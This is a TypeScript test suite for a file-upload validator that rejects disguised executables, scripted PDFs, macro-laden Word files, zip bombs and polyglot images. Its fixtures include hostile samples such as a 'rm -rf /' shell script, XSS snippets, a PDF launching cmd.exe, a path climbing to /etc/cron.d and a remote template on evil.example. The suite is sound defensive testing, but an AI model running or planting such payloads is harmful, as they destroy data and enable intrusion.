import { randomBytes } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { createJudge } from './testing/judge.ts';
import {
  docxParts,
  objectStream,
  PNG_SIGNATURE,
  pngChunk,
  pngHeader,
  sampleDoc,
  sampleDocx,
  sampleJpeg,
  samplePdf,
  samplePng,
  sampleZip,
} from './testing/samples.ts';

const { judge } = await createJudge();

const exe = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(600, 1)]);
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(600, 1)]);
const html = '<!doctype html><html><script>alert(1)</script></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const javascript = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const cutOff = (bytes: Buffer, part = 0.7): Buffer => bytes.subarray(0, Math.floor(bytes.length * part));
const hugePng = (width: number, height: number): Buffer =>
  Buffer.concat([
    PNG_SIGNATURE,
    pngHeader(width, height),
    pngChunk('IDAT', Buffer.from('x')),
    pngChunk('IEND'),
  ]);
const badCrc = (): Buffer => {
  const bytes = Buffer.from(samplePng());
  bytes[20] = 0xff;
  return bytes;
};
const macroDocx = sampleZip([...docxParts(), { name: 'word/vbaProject.bin', data: 'x' }]);
const loopingDoc = (): Buffer => {
  const bytes = Buffer.from(sampleDoc());
  bytes.writeUInt32LE(1, 512 + 4);
  return bytes;
};

/** A stream of objects that unpacks to so many bytes of what is slow to read. */
const slow = (bytes: number): string => objectStream(`9 0 ${'/'.repeat(bytes)}`);
const megabytes = (count: number): number => count * 1024 * 1024;
/** Ten megabytes of one thing over and over, between two documents. */
const flood = (text: string): Buffer =>
  Buffer.concat([
    samplePdf().subarray(0, -7),
    Buffer.from(`1 0 obj ${text.repeat(megabytes(9.9) / text.length)}`, 'latin1'),
    samplePdf(),
  ]);

describe('PDFs that are slow to read (rule 55)', () => {
  test.each<[string, Buffer, string]>([
    ['500 object streams', samplePdf([], Array<string>(500).fill(slow(128 * 1024))), 'desmedido'],
    ['8 object streams of 8 MB', samplePdf([], Array<string>(8).fill(slow(megabytes(7.9)))), 'desmedido'],
    ['a thousand of 60 kB', samplePdf([], Array<string>(1000).fill(slow(60_000))), 'desmedido'],
    [
      'six thousand tiny ones',
      samplePdf([], Array<string>(6000).fill(objectStream('9 0 << >>'))),
      'desmedido',
    ],
    ['one that unpacks to little', samplePdf([], [slow(megabytes(4))]), 'ok'],
    ['slashes', flood('/'), 'ok'],
    ['names with marks', flood('/#41'), 'ok'],
    ['names that are looked for', flood('/JS '), 'ok'],
    ['names of files', flood('/F(a)'), 'desmedido'],
    ['strings', flood('()'), 'ok'],
    ['strings that never close', flood('('), 'danado'],
    ['objects', flood('obj endobj '), 'ok'],
    ['objects that never end', flood('obj '), 'danado'],
    ['encryption dictionaries', flood(`trailer << /Encrypt 7 0 R ${'/A '.repeat(9000)}`), 'danado'],
  ])('%s', async (_, bytes, code) => {
    // By time they would be refused with another code.
    expect(await judge(bytes, 'pdf')).toBe(code);
  });
});

describe('hostile files are refused (rules 53, 55)', () => {
  test.each<[string, Buffer | string, string, string]>([
    ['a Windows program named .pdf', exe, 'pdf', 'no_coincide'],
    ['a Windows program named .docx', exe, 'docx', 'no_coincide'],
    ['a Windows program named .doc', exe, 'doc', 'no_coincide'],
    ['a Windows program named .jpg', exe, 'jpg', 'no_coincide'],
    ['a Linux program named .png', elf, 'png', 'no_coincide'],
    ['a shell script named .pdf', '#!/bin/sh\nrm -rf /\n', 'pdf', 'no_coincide'],
    ['a page named .pdf', html, 'pdf', 'no_coincide'],
    ['a page named .doc', html, 'doc', 'no_coincide'],
    ['an SVG named .png', svg, 'png', 'no_coincide'],
    ['an SVG named .jpg', svg, 'jpg', 'no_coincide'],
    ['a page as .html', html, 'html', 'extension'],
    ['an SVG as .svg', svg, 'svg', 'extension'],
    ['a program as .exe', exe, 'exe', 'extension'],
    ['an extension that is a property of every object', samplePdf(), '__proto__', 'extension'],
    ['an empty file', '', 'pdf', 'vacio'],
    ['random bytes', randomBytes(5000), 'pdf', 'no_coincide'],
    ['a PNG named .jpg', samplePng(), 'jpg', 'no_coincide'],
    ['a JPEG named .png', sampleJpeg(), 'png', 'no_coincide'],
    ['a PDF named .docx', samplePdf(), 'docx', 'no_coincide'],
    ['a docx named .doc', sampleDocx(), 'doc', 'no_coincide'],
    [
      'a PDF whose header is not at the start',
      Buffer.concat([Buffer.from('MZ junk\n'), samplePdf()]),
      'pdf',
      'no_coincide',
    ],
    ['a PDF header and nothing else', '%PDF-1.7\n', 'pdf', 'danado'],
    ['a truncated PDF', cutOff(samplePdf()), 'pdf', 'danado'],
    ['a PDF that runs JavaScript on opening', samplePdf([], [javascript]), 'pdf', 'con_acciones'],
    [
      'the same with an encoded name',
      samplePdf([], ['<< /S /J#61vaScript /JS (x) >>']),
      'pdf',
      'con_acciones',
    ],
    [
      'the same with a comment between the names',
      samplePdf([], ['<< /S % x\n/JavaScript /JS (x) >>']),
      'pdf',
      'con_acciones',
    ],
    [
      'the same inside a compressed object stream',
      samplePdf([], [objectStream(`9 0 ${javascript}`)]),
      'pdf',
      'con_acciones',
    ],
    [
      'a PDF that opens a program',
      samplePdf([], ['<< /S /Launch /Win << /F (cmd.exe) >> >>']),
      'pdf',
      'con_acciones',
    ],
    [
      'JavaScript after an unclosed string',
      samplePdf([], ['<< /T (open >>', javascript]),
      'pdf',
      'con_acciones',
    ],
    [
      'a PDF with a ZIP at its end',
      Buffer.concat([samplePdf(), sampleZip([{ name: 'a', data: 'startxref %%EOF' }])]),
      'pdf',
      'mixto',
    ],
    [
      'a PDF that is also a page',
      Buffer.concat([Buffer.from('%PDF-1.7\n<html><script>x</script>\n'), samplePdf()]),
      'pdf',
      'mixto',
    ],
    ['a PDF with a page after its end', Buffer.concat([samplePdf(), Buffer.from(html)]), 'pdf', 'mixto'],
    ['a ZIP without a Word document', sampleZip([{ name: 'a.txt', data: 'hola' }]), 'docx', 'no_coincide'],
    [
      'a spreadsheet named .docx',
      sampleZip([
        {
          name: '[Content_Types].xml',
          data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        },
        { name: 'xl/workbook.xml', data: '<w/>' },
      ]),
      'docx',
      'no_coincide',
    ],
    ['a docx with macros', macroDocx, 'docx', 'con_macros'],
    [
      'a docm renamed .docx',
      sampleZip(docxParts([], 'application/vnd.ms-word.document.macroEnabled.main+xml')),
      'docx',
      'con_macros',
    ],
    [
      'a docx with a program inside',
      sampleZip([...docxParts(), { name: 'word/embeddings/a.exe', data: exe }]),
      'docx',
      'con_macros',
    ],
    [
      'a docx with ActiveX',
      sampleZip([...docxParts(), { name: 'word/activeX/activeX1.bin', data: 'x' }]),
      'docx',
      'con_macros',
    ],
    [
      'a docx that fetches its template',
      sampleZip([
        ...docxParts(),
        {
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        },
      ]),
      'docx',
      'contenido_externo',
    ],
    [
      'a bomb: 60 MB of zeros in a docx',
      sampleZip([...docxParts(), { name: 'word/media/a.bin', data: Buffer.alloc(60 * 1024 * 1024) }]),
      'docx',
      'desmedido',
    ],
    [
      'a bomb that declares a small size',
      sampleZip([
        ...docxParts(),
        { name: 'word/media/a.bin', data: Buffer.alloc(60 * 1024 * 1024), declaredSize: 1000 },
      ]),
      'docx',
      'danado',
    ],
    [
      'a docx with 1,001 parts',
      sampleZip([...docxParts(), ...Array.from({ length: 998 }, (_, n) => ({ name: `p${n}`, data: 'x' }))]),
      'docx',
      'desmedido',
    ],
    [
      'a docx with a path that climbs',
      sampleZip([...docxParts(), { name: '../../etc/cron.d/x', data: 'x' }]),
      'docx',
      'danado',
    ],
    ['a docx with the same part twice', sampleZip([...docxParts(), ...docxParts()]), 'docx', 'danado'],
    ['a truncated docx', cutOff(sampleDocx()), 'docx', 'danado'],
    ['a program with a docx behind it', Buffer.concat([exe, sampleDocx()]), 'docx', 'no_coincide'],
    [
      'a doc with macros',
      sampleDoc([
        { name: 'Macros', storage: true },
        { name: 'VBA', storage: true },
      ]),
      'doc',
      'con_macros',
    ],
    [
      'a doc with a VBA project only',
      sampleDoc([{ name: '_VBA_PROJECT', storage: false }]),
      'doc',
      'con_macros',
    ],
    ['an xls named .doc', sampleDoc([], 'Workbook'), 'doc', 'no_coincide'],
    ['an installer (msi) named .doc', sampleDoc([], 'Tables'), 'doc', 'no_coincide'],
    ['a doc signature and nothing else', sampleDoc().subarray(0, 600), 'doc', 'danado'],
    ['a doc whose directory loops', loopingDoc(), 'doc', 'danado'],
    [
      'a doc with a ZIP at its end',
      Buffer.concat([sampleDoc(), sampleZip([{ name: 'a', data: 'x' }])]),
      'doc',
      'mixto',
    ],
    ['a truncated PNG', cutOff(samplePng()), 'png', 'danado'],
    ['a PNG with a false CRC', badCrc(), 'png', 'danado'],
    [
      'a PNG without a picture',
      Buffer.concat([PNG_SIGNATURE, pngHeader(2, 2), pngChunk('IEND')]),
      'png',
      'danado',
    ],
    ['a PNG of 50 megapixels', hugePng(10_000, 5_000), 'png', 'imagen_desmedida'],
    ['a PNG of 4 billion × 4 billion', hugePng(0xffff_ffff, 0xffff_ffff), 'png', 'imagen_desmedida'],
    ['a PNG of no size', hugePng(0, 10), 'png', 'danado'],
    [
      'a PNG with a ZIP behind it',
      Buffer.concat([samplePng(), sampleZip([{ name: 'a', data: 'x' }])]),
      'png',
      'mixto',
    ],
    ['a PNG with a script behind it', Buffer.concat([samplePng(), Buffer.from('<?php x')]), 'png', 'mixto'],
    ['a truncated JPEG', sampleJpeg().subarray(0, -2), 'jpg', 'danado'],
    ['a JPEG header and nothing else', Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'jpeg', 'danado'],
    ['a JPEG without a picture', Buffer.from([0xff, 0xd8, 0xff, 0xd9]), 'jpeg', 'danado'],
    ['a JPEG of 60 megapixels', sampleJpeg({ width: 10_000, height: 6_000 }), 'jpg', 'imagen_desmedida'],
    ['a JPEG with a script in its comment', sampleJpeg({ comment: '<script>x</script>' }), 'jpg', 'mixto'],
    [
      'a JPEG with a ZIP behind it',
      Buffer.concat([sampleJpeg(), sampleZip([{ name: 'a', data: 'x' }])]),
      'jpg',
      'mixto',
    ],
    ['a JPEG with a page behind it', Buffer.concat([sampleJpeg(), Buffer.from(html)]), 'jpg', 'mixto'],
  ])('%s', async (_, bytes, extension, code) => {
    expect(await judge(bytes, extension)).toBe(code);
  });
});
